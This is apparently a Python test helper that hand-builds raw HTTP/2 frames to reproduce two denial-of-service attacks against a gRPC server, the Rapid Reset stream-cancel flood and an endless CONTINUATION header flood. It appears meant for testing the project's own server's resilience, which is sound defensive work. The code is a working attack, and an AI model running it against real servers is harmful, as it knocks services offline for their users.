"""Hand-written HTTP/2 attacks: calls that are reset at once, and headers without an end."""

import select
import socket
import struct
from collections.abc import Sequence

from tests.serving import METADATA

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_HEADERS = 4
CANCEL = 8

PART = 16_000
"""Bytes of a frame, of the 16,384 that every peer takes."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _text(text: str) -> bytes:
    """Its length, in seven bits and more, and its letters."""
    letters, length = text.encode(), len(text.encode())
    if length < 127:
        return bytes((length,)) + letters
    more, rest = b"", length - 127
    while rest >= 128:
        more, rest = more + bytes((rest % 128 + 128,)), rest // 128
    return b"\x7f" + more + bytes((rest,)) + letters


def block(fields: Sequence[tuple[str, str]]) -> bytes:
    """Header fields as they are, in no table of either side."""
    return b"".join(b"\x00" + _text(name) + _text(value) for name, value in fields)


def call(method: str, more: Sequence[tuple[str, str]] = ()) -> bytes:
    """The header fields of a call."""
    own = ((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "arramon"))
    return block((*own, ("te", "trailers"), ("content-type", "application/grpc"), *METADATA, *more))


FIELDS = {
    "long": block([("x-flood", "x" * PART)]),
    "short": b"\x90" * PART,  # each byte is one field of the table that both sides know
    "empty": b"",
}
"""Header fields that fill a frame; what a peer does with each kind differs."""


class Connection:
    """A connection that speaks HTTP/2, and hears nothing.

    Args:
        address: of a server.

    Attributes:
        calls: that were made and reset.
        frames: of header fields that were sent.
    """

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), timeout=240)
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        self.calls = self.frames = 0

    def close(self) -> None:
        self._socket.close()

    def reset(self, method: str, times: int) -> bool:
        """Makes calls, and takes each back at once; False where the server has closed the connection."""
        headers, reason = call(method), struct.pack(">I", CANCEL)
        words = b""
        for _ in range(times):
            stream = 2 * self.calls + 1
            words += frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, reason)
            self.calls += 1
        return self._say(words)

    def flood(self, method: str, kind: str, frames: int) -> bool:
        """One call whose header fields go on and on, and never end, of a kind of `FIELDS`; False as in `reset`."""
        words = b"" if self.frames else frame(HEADERS, 0, 1, call(method))
        self.frames += frames
        return self._say(words + frame(CONTINUATION, 0, 1, FIELDS[kind]) * frames)

    def _say(self, words: bytes) -> bool:
        try:
            while select.select([self._socket], [], [], 0)[0]:
                if not self._socket.recv(65_536):
                    return False
            self._socket.sendall(words)
        except OSError:
            return False
        return True
